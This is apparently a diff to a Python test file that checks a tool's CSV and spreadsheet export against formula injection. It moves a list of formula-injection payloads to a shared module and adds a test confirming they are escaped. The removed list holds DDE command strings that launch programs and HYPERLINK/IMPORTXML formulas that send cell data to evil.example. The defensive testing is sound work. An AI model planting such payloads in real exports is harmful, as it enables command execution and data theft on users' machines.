@@ -20,43 +20,10 @@ from synapse_analytics.disclosure import CLINIC, PUBLISH, Kind, Measure, Questio
 from synapse_analytics.errors import UsageError
 from synapse_analytics.exports import file_name, table_bytes
 from synapse_analytics.exports.spreadsheets import BOM, MOST_XLSX_ROWS, csv_header, csv_rows, safe_table, safe_text, write_xlsx
+from synapse_analytics.terminal import Format, write_rows
+from tests.faults.formulas import FORMULAS
 from tests.twins.open_policy import changed
 
-FORMULAS = [
-    "=1+1",
-    "=SUM(A1:A9)",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")',
-    '=IMPORTXML("http://evil.example","//a")',
-    "=WEBSERVICE(A1)",
-    '=DDE("cmd";"/C calc";"x")',
-    "=-1",
-    "==1",
-    "=A1",
-    "=",
-    "+1+1",
-    "+cmd|' /C notepad'!A1",
-    "+A1",
-    "+91 98450 12345",
-    "-1+1",
-    "-A1",
-    "-2+3+cmd|' /C calc'!A0",
-    "--1",
-    "-",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@A1",
-    "|calc",
-    "%0A=1+1",
-    "%1",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    "｜calc",
-]
 NUMBERS = ["-3", "-3.5", "+2", "0", "1e5", "-1.5E-10", "12"]
 NAUGHTY = [
     "",
@@ -217,3 +184,12 @@ def test_xlsx_stops_at_its_limit() -> None:
     rows: Any = ((k,) for k in range(MOST_XLSX_ROWS + 1))
     with pytest.raises(UsageError, match="50,000 rows"):
         write_xlsx(io.BytesIO(), [("t", ["n"], rows)])
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_what_a_command_writes_as_csv_is_no_formula(formula: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """The purpose of an export stands in `audit list --format csv`, and a person wrote it."""
+    write_rows([{"user": formula, "rows": -3}], Format.CSV)
+    written = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert [row[1:] for row in written] == [["rows"], ["-3"]]
+    assert written[1][0].replace("\n", "\r") == f"'{formula}".replace("\n", "\r")
